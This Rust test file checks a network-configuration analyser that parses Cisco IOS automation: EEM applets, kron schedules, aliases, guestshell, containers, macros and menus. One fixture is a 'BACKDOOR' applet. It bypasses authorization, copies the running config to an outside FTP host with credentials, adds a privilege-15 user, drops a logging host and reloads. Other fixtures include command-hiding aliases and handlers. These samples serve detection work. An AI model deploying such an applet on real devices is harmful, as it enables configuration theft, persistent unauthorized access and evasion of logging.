use seawall_api::model::{Automation, AutomationKind, Transfer};
use seawall_api::{Fact, LineState, Reading};

use crate::sample::{part, unknown, whole};

fn read(config: &str) -> Reading {
    let reading = whole(config);
    assert_eq!(unknown(&reading), Vec::<&str>::new());
    reading
}

fn only(reading: &Reading) -> &Automation {
    let [one] = reading.model.automation.as_slice() else { panic!("{:?}", reading.model.automation) };
    one
}

fn actions(one: &Automation) -> Vec<&str> {
    one.commands.iter().map(|command| command.action.value().map_or("?", String::as_str)).collect()
}

const APPLET: &str = r#"event manager environment _srv 203.0.113.9
event manager applet BACKDOOR authorization bypass
 description keeps things going
 event timer cron cron-entry "0 3 * * *" maxrun 60
 action 1.0 cli command "enable"
 action 1.1 cli command "copy running-config ftp://bob:S3cr3t@$_srv/r1.cfg" pattern "filename"
 action 1.2 cli command "conf t"
 action 1.3 cli command "username support privilege 15 secret \"x y\""
 action 1.4 cli command "no logging host 10.0.0.1"
 action 1.5 cli command "do monitor capture mycap start"
 action 1.6 cli command "interface Gi0/0"
 action 1.7 cli command end
 action 1.8 cli command "guestshell run python3 x.py"
 action 1.9 cli command "$_cli_result"
 action 2.0 syslog msg "done"
 action 2.1 reload
"#;

#[test]
fn an_applet_says_what_it_does_and_to_whom() {
    let reading = read(APPLET);
    let one = only(&reading);
    assert_eq!((one.name.as_str(), one.trigger.value().map(String::as_str)), ("BACKDOOR", Some("timer")));
    assert_eq!(one.authorization_bypassed.value(), Some(&true));
    assert_eq!(
        actions(one),
        ["other", "copy", "configure", "user", "logging", "capture", "configure", "configure", "shell", "?", "reload"]
    );
    let copy = &one.commands[1];
    assert_eq!(copy.words.value().unwrap(), "copy running-config");
    assert_eq!(copy.remote.configured().unwrap(), "203.0.113.9");
    assert_eq!(copy.transfer.configured().unwrap(), "ftp");
    assert_eq!(one.commands[4].words.value().unwrap(), "no logging");
    let user = reading.text.slice(one.commands[3].at);
    assert_eq!(user, "username support privilege 15 secret \\\"x y\\\"");
    let [backup] = reading.model.backups.as_slice() else { panic!() };
    assert_eq!((backup.transfer.value(), backup.by.value().unwrap().as_str()), (Some(&Transfer::Ftp), "script"));
    let [secret] = reading.model.secrets.as_slice() else { panic!() };
    assert_eq!(reading.text.slice(secret.secret.value().unwrap().span), "S3cr3t");
}

#[test]
fn a_handler_hides_the_command_that_it_skips() {
    let hides = |body: &str| {
        let reading = read(&format!("event manager applet A\n{body}event manager applet B\n event none\n"));
        reading.model.automation[0].hides_command.value().copied()
    };
    let skip = " event cli pattern \"show run.*\" sync no skip yes\n action 1 puts \"ok\"\n";
    assert_eq!(hides(skip), Some(true));
    assert_eq!(hides(" event cli pattern \"reload\" sync yes\n action 1 syslog msg \"no\"\n"), Some(true));
    assert_eq!(hides(" event cli pattern \"reload\" sync yes\n action 1 set _exit_status \"1\"\n"), Some(false));
    assert_eq!(hides(" event cli pattern \"reload\" sync yes\n action 1 set _exit_status \"$x\"\n"), None);
    assert_eq!(hides(" event syslog pattern \"x\"\n"), Some(false));
    let reading = whole("event manager applet A\n event moon phase\n action 1 cli command \"unclosed\n");
    assert_eq!(unknown(&reading).len(), 2);
    assert_eq!(reading.model.automation[0].trigger, Fact::Default("none".into()));
}

#[test]
fn a_part_says_nothing_of_what_is_missing() {
    let reading = part("event manager applet A\n action 1 cli command \"show run | redirect tftp://192.0.2.1/x\"\n");
    let one = only(&reading);
    assert!(one.trigger.is_unknown() && one.hides_command.is_unknown());
    assert_eq!(actions(one), ["copy"]);
    assert!(only(&part("kron policy-list P\n cli reload\n")).active);
}

#[test]
fn applets_and_scripts_can_be_taken_away() {
    let reading = read(
        "event manager applet A\n event none\nno event manager applet A\nevent manager policy x.tcl type user\n\
                        no event manager policy x.tcl\nalias exec foo show ver\nno alias exec foo\n",
    );
    assert!(reading.model.automation.is_empty());
}

#[test]
fn scripts_are_signed_where_secure_mode_asks_it() {
    let reading = read("event manager policy map.tcl type user\nscripting tcl init flash:x.tcl\n");
    assert!(reading.model.automation.iter().all(|one| one.signed == Fact::Default(false)));
    let reading = read("event manager policy map.tcl\nscripting tcl secure-mode\nscripting tcl trustpoint name T\n");
    assert_eq!(only(&reading).signed.value(), Some(&true));
    assert_eq!(only(&reading).kind, AutomationKind::Script);
}

#[test]
fn schedules_run_lists_that_occurrences_name() {
    let reading = read(
        "kron policy-list SAVE\n cli copy running-config tftp://192.0.2.7/r1\n cli write memory\nkron policy-list IDLE\n cli reload\n\
         kron occurrence DAILY at 2:00 recurring\n policy-list SAVE\n",
    );
    let [save, idle] = reading.model.automation.as_slice() else { panic!() };
    assert_eq!((save.active, save.trigger.value().unwrap().as_str()), (true, "timer"));
    assert_eq!(save.commands[1].words.value().unwrap(), "write memory");
    assert_eq!(save.commands[1].transfer.configured().unwrap(), "local");
    assert!(!idle.active);
    assert_eq!(reading.model.backups[0].by.value().unwrap(), "scheduler");
    assert_eq!(unknown(&whole("kron occurrence D at noon\n")).len(), 1);
}

#[test]
fn aliases_mask_commands_of_their_name() {
    let hides = |alias: &str| only(&read(alias)).hides_command.value().copied();
    assert_eq!(hides("alias exec show show clock\n"), Some(false));
    assert_eq!(hides("alias exec show show run | exclude username\n"), Some(true));
    assert_eq!(hides("alias exec write show clock\n"), Some(true));
    assert_eq!(hides("alias exec wr write memory\n"), Some(false));
    assert_eq!(hides("alias exec sib show ip interface brief\n"), Some(false));
    assert_eq!(hides("alias configure show interface Gi0/0\n"), Some(false));
}

#[test]
fn shells_and_applications() {
    let reading = read(
        "iox\napp-hosting appid guestshell\n app-vnic gateway0 virtualportgroup 0 guest-interface 0\n  \
         guest-ipaddress 192.168.35.2 netmask 255.255.255.0\n app-default-gateway 192.168.35.1 guest-interface 0\n start\n\
         app-hosting appid thousandeyes\n app-resource docker\n  run-opts 1 \"-e TOKEN=abc\"\n\
         virtual-service csr_mgmt\nvirtual-service other\n activate\n",
    );
    let found: Vec<_> = reading.model.automation.iter().map(|one| (one.name.as_str(), one.kind, one.active)).collect();
    assert_eq!(
        found,
        [
            ("iox", AutomationKind::GuestShell, true),
            ("guestshell", AutomationKind::GuestShell, true),
            ("thousandeyes", AutomationKind::Container, true),
            ("csr_mgmt", AutomationKind::Container, false),
            ("other", AutomationKind::Container, true),
        ]
    );
    assert!(read("no iox\n").model.automation.is_empty());
}

#[test]
fn macros_and_menus() {
    let reading = read(
        "macro name access\nswitchport mode access\nspanning-tree portfast\n@\nmenu ops title ^C\nOperations\n^C\n\
         menu ops text 1 Show log\nmenu ops command 1 show logging\nmenu ops clear-screen\n",
    );
    let [port, ops] = reading.model.automation.as_slice() else { panic!() };
    assert_eq!((port.kind, ops.kind), (AutomationKind::Macro, AutomationKind::Menu));
    assert_eq!(ops.commands[0].words.value().unwrap(), "show logging");
    assert!(reading.states.iter().all(|state| !matches!(state, LineState::Unknown(_))));
}

#[test]
fn actions_that_are_not_indented_belong_to_the_applet_above() {
    let reading = read("event manager applet A\n event none\naction 1 cli command \"reload\"\n!\n");
    assert_eq!(actions(only(&reading)), ["reload"]);
    assert_eq!(unknown(&whole("action 1 cli command \"reload\"\n")).len(), 1);
}
